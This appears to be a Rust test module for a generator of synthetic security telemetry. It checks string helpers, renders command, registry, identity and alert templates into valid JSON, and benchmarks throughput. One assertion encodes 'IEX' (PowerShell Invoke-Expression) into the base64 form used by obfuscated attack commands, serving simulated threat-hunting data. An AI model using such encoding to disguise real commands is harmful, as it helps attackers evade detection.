        push_escaped(&mut s, "Microsoft® 見", true);
        assert_eq!(s, "Microsoft\\u00ae \\u898b");
        assert_eq!(encode_powershell("IEX"), "SQBFAFgA");
        assert_eq!(ascii_fold("O'Brien-Müller Łukasz"), "obrienmullerlukasz");
        let a = guid(1, 2);
        assert_eq!(a.len(), 36);
        assert_ne!(a, guid(2, 2));
    }

    #[test]
    fn catalogue_is_consistent_and_templates_render() {
        let world = World::new(9, DEFAULT_TENANT, 0, 24, 1_000);
        let mut c = Ctx::new(&world, ChaCha8Rng::seed_from_u64(9), 9, 1, TimeStyle::z(7));
        c.ev.device = Some(0);
        let mut text = String::new();
        let mut plain = |c: &mut Ctx<'_>, template: &str| {
            text.clear();
            c.expand(&mut text, template, false);
            assert!(!text.contains("{{"), "{template} -> {text}");
        };
        for spec in PROCS {
            for (cmd, _) in spec.cmds {
                plain(&mut c, cmd);
            }
            for (parent, _) in spec.parents {
                assert!(
                    PROCS
                        .iter()
                        .any(|p| p.name == *parent && p.hosts & spec.hosts != 0),
                    "{}: unknown parent {parent}",
                    spec.name
                );
            }
        }
        for r in REGISTRY {
            for template in [r.key, r.value, r.data, r.previous] {
                plain(&mut c, template);
            }
        }
        for q in IDENTITY_QUERIES {
            plain(&mut c, q.query);
            plain(&mut c, q.target);
        }
        let json = DEVICE_EVENTS
            .iter()
            .filter_map(|e| e.fields)
            .chain(IDENTITY_DIRECTORY.iter().map(|d| d.fields))
            .chain(ENTITIES.iter().filter_map(|e| e.fields()))
            .chain([IDENTITY_LOGON_FIELDS, IDENTITY_QUERY_FIELDS, POSIX_FIELDS]);
        for template in json {
            // Values are random: render each template many times.
            for _ in 0..200 {
                c.out.clear();
                c.render_json(template, false);
                serde_json::from_str::<serde_json::Value>(&c.out)
                    .unwrap_or_else(|e| panic!("{e}: {template} -> {}", c.out));
                assert!(!c.out.contains("{{"), "{template} -> {}", c.out);
            }
        }
        for alert in ALERTS {
            let distinct: HashSet<usize> = alert.entities.iter().map(|e| *e as usize).collect();
            assert_eq!(distinct.len(), alert.entities.len(), "{}", alert.title);
        }
        for (i, entity) in ENTITIES.iter().enumerate() {
            assert_eq!(*entity as usize, i);
        }
    }

    /// `HUNTVAULT_BENCH_SIZE=1GiB cargo test --release --lib generate::tests::throughput -- --ignored --nocapture`
    #[test]
    #[ignore = "benchmark"]
    fn throughput() {
        let dir = tempfile::tempdir().unwrap();
        let opts = GenerateOptions {
            out: dir.path().to_path_buf(),
            size_bytes: std::env::var("HUNTVAULT_BENCH_SIZE")
                .ok()
                .and_then(|s| parse_size(&s))
                .unwrap_or(256 << 20),
            ..GenerateOptions::default()
        };
        let started = std::time::Instant::now();
        let report = run(&opts);
        let secs = started.elapsed().as_secs_f64();
        println!(
            "{} MiB, {} lines, {} blobs in {secs:.2}s: {:.0} MiB/s",
            report.bytes >> 20,
            report.lines,
            report.blobs.len(),
            report.bytes as f64 / secs / (1 << 20) as f64
        );
    }
}
